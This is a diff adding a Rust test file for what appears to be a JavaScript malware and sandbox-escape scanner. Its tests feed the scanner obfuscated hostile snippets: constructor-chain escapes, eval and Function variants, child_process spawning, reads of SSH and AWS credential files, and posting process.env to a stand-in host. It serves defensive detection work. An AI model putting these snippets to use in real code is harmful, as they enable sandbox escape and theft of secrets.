@@ -1,0 +1,478 @@
+//! Every rule fires on several spellings of its attack and stays quiet on the honest code of
+//! the precision list.
+
+use sandbench::engine::scan::{scan, Verdict};
+
+fn rules(src: &str) -> Vec<String> {
+    scan(src).findings.into_iter().map(|f| f.rule).collect()
+}
+
+#[track_caller]
+fn fires(rule: &str, srcs: &[&str]) {
+    for src in srcs {
+        let got = rules(src);
+        assert!(
+            got.iter().any(|r| r == rule),
+            "`{rule}` missing for {src:?}: {got:?}"
+        );
+    }
+}
+
+#[track_caller]
+fn quiet(srcs: &[&str]) {
+    for src in srcs {
+        let r = scan(src);
+        assert!(
+            r.verdict == Verdict::Allow,
+            "expected allow for {src:?}, got {} {:?}",
+            r.score,
+            r.findings.iter().map(|f| &f.rule).collect::<Vec<_>>()
+        );
+    }
+}
+
+#[test]
+fn constructor_chain_in_many_spellings() {
+    fires(
+        "constructor-chain",
+        &[
+            "this.constructor.constructor('return process')()",
+            "({}).constructor.constructor('return this')()",
+            "[]['constructor']['constructor']('x')()",
+            "const k = 'con' + 'structor'; x[k][k]('return 1')();",
+            "x[`con${'struc'}tor`][\"\\x63onstructor\"]('1')",
+            "x[String.fromCharCode(99,111,110,115,116,114,117,99,116,111,114)].constructor",
+            "x[atob('Y29uc3RydWN0b3I=')][atob('Y29uc3RydWN0b3I=')]",
+            "x[Buffer.from('636f6e7374727563746f72','hex').toString()].constructor",
+            "x[['con','struc','tor'].join('')].constructor",
+            "x['rotcurtsnoc'.split('').reverse().join('')].constructor",
+            "Reflect.get(Reflect.get(x, 'constructor'), 'constructor')",
+            "Object.getOwnPropertyDescriptor(x.constructor, 'constructor').value",
+            "(async function(){}).constructor('await 1')",
+            "(function*(){}).constructor('yield 1')",
+            "Object.getPrototypeOf(async () => {}).constructor",
+            "(() => {}).constructor('return process')()",
+            "[].filter.constructor('return this')()",
+        ],
+    );
+    assert_eq!(
+        scan("this.constructor.constructor('x')()").verdict,
+        Verdict::Block
+    );
+}
+
+#[test]
+fn folded_findings_show_the_folded_value() {
+    let r = scan("const k = 'con' + 'structor';\nx[k][k]('1')();");
+    let f = r
+        .findings
+        .iter()
+        .find(|f| f.rule == "constructor-chain")
+        .expect("finding");
+    assert_eq!(f.folded.as_deref(), Some("constructor"));
+    assert!(
+        f.message.contains("resolves to `constructor`"),
+        "{}",
+        f.message
+    );
+    assert_eq!(f.line, 2);
+}
+
+#[test]
+fn function_constructor_and_idiom() {
+    fires(
+        "function-constructor",
+        &[
+            "new Function('a', 'return a')",
+            "Function(code)()",
+            "globalThis['Func' + 'tion'](code)",
+            "const F = Function; F(code)",
+            "Function.apply(null, ['return 1'])",
+            "Reflect.construct(Function, ['return 1'])",
+        ],
+    );
+    let r = scan("var g = Function('return this')();");
+    assert_eq!(r.findings[0].rule, "function-global-idiom");
+    assert_eq!(r.verdict, Verdict::Allow);
+    assert!(r.findings[0].message.contains("global"));
+}
+
+#[test]
+fn eval_direct_and_indirect() {
+    fires("eval-direct", &["eval(userCode)", "eval('1+' + x)"]);
+    fires(
+        "eval-indirect",
+        &[
+            "(0, eval)(code)",
+            "globalThis['ev' + 'al'](code)",
+            "window.eval(code)",
+            "const e = eval; e(code)",
+            "var t = [eval][0]; t(code)",
+            "self[atob('ZXZhbA==')](code)",
+        ],
+    );
+    assert!(scan("(0, eval)(code)").score >= 80);
+}
+
+#[test]
+fn timers_with_strings() {
+    fires(
+        "timer-string",
+        &[
+            "setTimeout('alert(1)', 10)",
+            "setInterval(`tick(${n})`, 5)",
+            "setTimeout('a' + b, 1)",
+        ],
+    );
+    quiet(&["setTimeout(() => tick(), 10)", "setInterval(tick, 5)"]);
+}
+
+#[test]
+fn encoded_payloads_executed() {
+    fires(
+        "encoded-exec",
+        &[
+            "eval(atob('YWxlcnQoMSk='))",
+            "new Function(Buffer.from(payload, 'base64').toString())()",
+            "eval(String.fromCharCode(97,108,101,114,116))",
+            "setTimeout(unescape('%61lert(1)'), 1)",
+        ],
+    );
+}
+
+#[test]
+fn process_access() {
+    fires(
+        "process-binding",
+        &[
+            "process.binding('fs')",
+            "process['bind' + 'ing']('spawn_sync')",
+            "process.dlopen(m, p)",
+        ],
+    );
+    fires(
+        "process-mainmodule",
+        &["process.mainModule.require('child_process')"],
+    );
+    fires(
+        "process-env",
+        &[
+            "JSON.stringify(process.env)",
+            "Object.keys(process.env)",
+            "const all = {...process.env}",
+            "for (const k in process.env) send(k)",
+        ],
+    );
+    fires("process-exit", &["process.exit(1)", "process.kill(pid)"]);
+    quiet(&["if (process.env.NODE_ENV !== 'production') warn()"]);
+}
+
+#[test]
+fn modules() {
+    fires(
+        "child-process",
+        &[
+            "require('child_process').exec('ls')",
+            "const cp = require('node:child_process'); cp.execSync('id')",
+            "const { spawn } = require('child_process'); spawn('sh')",
+            "import { exec } from 'child_process'; exec('x')",
+            "require('child_' + 'process')",
+            "import('child_process')",
+        ],
+    );
+    fires(
+        "child-process-detached",
+        &["require('child_process').spawn('miner', [], { detached: true, stdio: 'ignore' })"],
+    );
+    fires(
+        "require-dangerous",
+        &["require('vm').runInThisContext(c)", "import v8 from 'v8'"],
+    );
+    fires("dynamic-import", &["import(name)", "import('./x' + y)"]);
+    fires(
+        "module-load",
+        &[
+            "module.constructor._load('fs')",
+            "const M = require('module'); M._load('child_process')",
+        ],
+    );
+    fires(
+        "require-cache",
+        &["delete require.cache[k]", "require.cache[p].exports = evil"],
+    );
+    fires(
+        "fs-access",
+        &[
+            "const fs = require('fs')",
+            "import { readFileSync } from 'node:fs'",
+        ],
+    );
+}
+
+#[test]
+fn prototype_pollution() {
+    fires(
+        "proto-pollution",
+        &[
+            "obj.__proto__.isAdmin = true",
+            "obj['__pro' + 'to__']['polluted'] = 1",
+            "x.constructor.prototype.polluted = 1",
+            "_.merge({}, JSON.parse('{\"__proto__\": {\"admin\": true}}'))",
+            "_.set(o, '__proto__.admin', true)",
+        ],
+    );
+    fires(
+        "builtin-prototype-write",
+        &[
+            "Object.prototype.toString = evil",
+            "Array.prototype.push = function () {}",
+            "Object.defineProperty(Object.prototype, 'x', { value: 1 })",
+            "Object.setPrototypeOf(Array.prototype, evil)",
+        ],
+    );
+    quiet(&[
+        "const d = Object.create(null); d[key] = value;",
+        "const data = JSON.parse('{\"__proto__\": 1}'); console.log(data.a);",
+        "class Point { constructor(x) { this.x = x; } }",
+        "Object.defineProperty(this, 'name', { value: 'x' })",
+        "const o = {}; Object.defineProperty(o, 'k', { get() { return 1; } });",
+        "function Map() {} Map.prototype.get = function (k) { return this[k]; };",
+    ]);
+}
+
+#[test]
+fn filesystem_and_paths() {
+    fires(
+        "sensitive-path",
+        &[
+            "fs.readFileSync('/etc/passwd')",
+            "read(os.homedir() + '/.ssh/id_rsa')",
+            "const p = `${home}/.aws/credentials`",
+            "open('.npmrc')",
+        ],
+    );
+}
+
+#[test]
+fn network_and_exfiltration() {
+    fires(
+        "network-fetch",
+        &[
+            "fetch('https://x.test')",
+            "new XMLHttpRequest()",
+            "new WebSocket(u)",
+            "navigator.sendBeacon(u, d)",
+        ],
+    );
+    fires(
+        "network-module",
+        &["require('net').connect(1)", "import dns from 'dns'"],
+    );
+    fires(
+        "exfiltration",
+        &[
+            "fetch('https://evil.test', { method: 'POST', body: JSON.stringify(process.env) })",
+            "const data = JSON.stringify(process.env); navigator.sendBeacon(u, data)",
+            "xhr.send(document.cookie)",
+            "const fs = require('fs'); req.write(fs.readFileSync(p))",
+        ],
+    );
+}
+
+#[test]
+fn cryptominers() {
+    fires(
+        "cryptominer",
+        &[
+            "const pool = 'stratum+tcp://pool.minexmr.com:4444'",
+            "var miner = new CoinHive.Anonymous('key'); miner.start();",
+            "loadWasm('cryptonight.wasm')",
+        ],
+    );
+}
+
+#[test]
+fn obfuscation_families() {
+    let jsfuck = "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]]()";
+    fires("obfuscation-jsfuck", &[jsfuck]);
+    fires(
+        "obfuscation-jjencode",
+        &[
+            "$=~[];$={___:++$,$$$$:(![]+\"\")[$],__$:++$};",
+            "ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻   //*´∇｀*/ ['_'];",
+        ],
+    );
+    fires(
+        "obfuscation-packer",
+        &["eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0',1,1,''.split('|'),0,{}))"],
+    );
+    let hex: String = (0..10)
+        .map(|i| format!("var _0x{:04x} = {i};\n", 0x1a2b + i))
+        .collect();
+    fires("obfuscation-hex-names", &[hex.as_str()]);
+    fires(
+        "obfuscation-string-array",
+        &["var _0x1 = ['a','b']; (function (a, n) { while (!![]) { try { if (n) break; a['push'](a['shift']()); } catch (e) { a['push'](a['shift']()); } } })(_0x1, 1);"],
+    );
+    fires(
+        "trojan-source",
+        &["if (isAdmin) { /* \u{202e} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin admins only */ run(); }"],
+    );
+    fires(
+        "invisible-char",
+        &["const a\u{200d} = 1; const \u{3164} = 2;"],
+    );
+    fires("homoglyph-identifier", &["const p\u{0430}ssword = 1;"]);
+    let hidden = format!("ok();{}evil();", " ".repeat(200));
+    fires("hidden-whitespace", &[hidden.as_str()]);
+    fires(
+        "encoded-blob",
+        &[&format!("const b = atob('{}');", "QUFB".repeat(60))],
+    );
+}
+
+#[test]
+fn precision_list_stays_quiet() {
+    quiet(&[
+        "function processData(d) { return d; } function requireAuth() {} const evaluate = (x) => x; processData(1); requireAuth(); evaluate(2);",
+        "// never call eval() or require('child_process') here\nconst s = 'eval is evil; child_process.exec is worse';",
+        "class A { constructor() { this.kind = this.constructor.name; } }",
+        "const cfg = JSON.parse(text); if (cfg['__proto__'] !== undefined) { reject(); }",
+        "const dict = Object.create(null); dict.a = 1;",
+        "const t = { ar: 'مرحبا\u{200f} عالم', fa: 'می\u{200c}خواهم' };",
+        "!function(e,t){\"object\"==typeof exports?module.exports=t():e.x=t()}(this,function(){var n=function(a,b){return a+b};return n});",
+        "var g = Function('return this')();",
+        "const x = require('./util'); module.exports = { x };",
+        "fetchData(); const f = obj.fetch; class Evaluator { evaluate() {} }",
+    ]);
+}
+
+#[test]
+fn code_that_does_not_parse_still_gets_token_rules() {
+    let r = scan("function (( { eval(payload) ; require('child_process')");
+    assert!(r.parse_error.is_some());
+    let got: Vec<_> = r.findings.iter().map(|f| f.rule.as_str()).collect();
+    assert!(got.contains(&"eval-direct"), "{got:?}");
+    assert!(got.contains(&"child-process"), "{got:?}");
+    assert!(r
+        .findings
+        .iter()
+        .any(|f| f.message.contains("did not parse")));
+}
+
+#[test]
+fn positions_are_one_based_characters_with_byte_offsets() {
+    let src = "const é = 1;\n  eval(x)";
+    let r = scan(src);
+    let f = r
+        .findings
+        .iter()
+        .find(|f| f.rule == "eval-direct")
+        .expect("eval");
+    assert_eq!((f.line, f.column, f.end_line, f.end_column), (2, 3, 2, 10));
+    assert_eq!(&src[f.start..f.end], "eval(x)");
+    assert_eq!(f.snippet, "eval(x)");
+}
+
+#[test]
+fn snippets_are_escaped_and_bounded() {
+    let src = format!("eval('\u{1b}[2J{}')", "a".repeat(500));
+    let r = scan(&src);
+    let f = &r.findings[0];
+    assert!(!f.snippet.contains('\u{1b}'));
+    assert!(f.snippet.chars().count() <= 130, "{}", f.snippet.len());
+}
+
+#[test]
+fn metrics_describe_the_code() {
+    let r = scan("function f(a) {\n  if (a) { for (;;) { if (a && b) return 1; } }\n}\n");
+    assert_eq!(r.metrics.lines, 3);
+    assert!(r.metrics.max_nesting >= 3, "{:?}", r.metrics);
+    assert!(r.metrics.complexity >= 4, "{:?}", r.metrics);
+    assert!(r.metrics.identifier_entropy > 0.0);
+    assert!(!r.metrics.minified);
+    let min = format!("var a=1;{}", "a=a+1;".repeat(200));
+    assert!(scan(&min).metrics.minified);
+}
+
+#[test]
+fn deep_nesting_never_overflows() {
+    let deep = format!("{}1{}", "(".repeat(5000), ")".repeat(5000));
+    let r = scan(&deep);
+    assert!(r.parse_error.is_none(), "{:?}", r.parse_error);
+    let deeper = format!("{}1{}", "[".repeat(50_000), "]".repeat(50_000));
+    let r = scan(&deeper);
+    assert!(r.findings.iter().any(|f| f.rule == "deep-nesting"));
+}
+
+#[test]
+fn locale_regexes_and_strings_with_invisible_marks_stay_quiet() {
+    quiet(&["const meridiemParse = /ئێواره\u{200c}|به\u{200c}یانی/; const s = 'می\u{200c}خواهم';"]);
+    fires("invisible-char", &["const s = 1;\u{200b} run();"]);
+}
+
+#[test]
+fn optional_chains_aliases_and_reflective_calls() {
+    fires("eval-direct", &["eval?.(code)"]);
+    fires(
+        "constructor-chain",
+        &[
+            "x?.constructor.constructor('return this')()",
+            "(x?.constructor).constructor",
+        ],
+    );
+    fires("process-binding", &["process?.binding('fs')"]);
+    fires(
+        "eval-indirect",
+        &["eval.call(null, code)", "Reflect.apply(eval, null, [code])"],
+    );
+    fires(
+        "function-constructor",
+        &["Function.prototype.constructor('return 1')"],
+    );
+    fires(
+        "dynamic-import",
+        &["import('data:text/javascript,alert(1)')"],
+    );
+}
+
+#[test]
+fn escaped_identifiers_and_loader_tampering() {
+    let r = scan("\\u0065val(code)");
+    let f = r
+        .findings
+        .iter()
+        .find(|f| f.rule == "eval-direct")
+        .expect("eval");
+    assert_eq!(f.folded.as_deref(), Some("eval"));
+    assert!(
+        f.score > 75,
+        "hidden spelling adds to the score: {}",
+        f.score
+    );
+    fires(
+        "require-cache",
+        &[
+            "module.constructor.prototype.require = function () {}",
+            "require('module')._load = hook",
+        ],
+    );
+}
+
+#[test]
+fn assignment_aliases_and_destructured_constructors() {
+    fires(
+        "constructor-chain",
+        &[
+            "var k; k = 'con' + 'structor'; x[k][k]('return 1')();",
+            "const { constructor: F } = function () {}; F('return process')();",
+        ],
+    );
+    // A name assigned twice is unknown: no guess.
+    let r = scan("var k; k = 'constructor'; k = 'name'; x[k][k];");
+    assert!(
+        r.findings.iter().all(|f| f.rule != "constructor-chain"),
+        "{:?}",
+        r.findings
+    );
+}
